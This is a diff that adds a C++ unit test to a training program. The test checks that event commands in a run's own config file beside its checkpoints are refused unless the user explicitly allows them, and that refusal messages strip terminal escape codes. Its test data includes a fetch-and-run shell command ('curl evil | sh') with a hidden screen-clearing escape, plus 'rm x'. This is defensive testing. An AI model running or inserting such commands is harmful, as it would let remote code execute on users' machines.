@@ -2,6 +2,7 @@
 
 #include <gtest/gtest.h>
 
+#include "tests/harness/messages.h"
 #include "tests/train/text_run.h"
 #include "trireme/base/file/file.h"
 
@@ -51,6 +52,31 @@ TEST_F(EventCommandsTest, AFailureEndsNothing) {
     EXPECT_EQ(Trainer(failing, world, observer).run(stop), Outcome::kFinished);
   });
   EXPECT_EQ(observer.lines, std::vector<std::string>(3, "command.on_checkpoint ended with code 7"));
+}
+
+// A config beside checkpoints was written by the program, here or elsewhere.
+TEST_F(EventCommandsTest, ThoseOfARunsOwnConfigNeedToBeAllowed) {
+  const auto refusal = [&](const std::vector<Override>& keys, const std::vector<Override>& typed) {
+    const RunConfig config = this->config("a", keys);
+    return harness::message_of<ConfigError>(
+        [&] { require_own_commands(config.callbacks, folder_ / "a" / "other.toml", typed); });
+  };
+  const Override command = {"command.on_start", "curl evil | sh\x1b[2J"};
+  std::filesystem::create_directories(folder_ / "a");
+  EXPECT_EQ(refusal({command}, {}), "") << "a config of the user's";
+  std::filesystem::create_directories(folder_ / "a" / "checkpoints");
+  EXPECT_EQ(refusal({}, {}), "");
+  const std::string message = refusal({command, {"command.on_stop", "rm x"}}, {});
+  for (const char* part : {"other.toml is the config of a run", "command.on_start = \"curl evil",
+                           "command.on_stop = \"rm x\"", "--command.allow=true"}) {
+    EXPECT_NE(message.find(part), std::string::npos) << message;
+  }
+  EXPECT_EQ(message.find('\x1b'), std::string::npos);
+  EXPECT_EQ(refusal({command}, {command}), "") << "typed";
+  EXPECT_EQ(refusal({command}, {{"command.allow", "true"}}), "");
+  EXPECT_NE(refusal({command}, {{"command.allow", "true"}, {"command.allow", "false"}}), "");
+  EXPECT_NE(refusal({command, {"command.allow", "true"}}, {}), "") << "the file allows itself";
+  EXPECT_NE(refusal({command}, {{"command.on_stop", "echo"}}), "");
 }
 
 }  // namespace
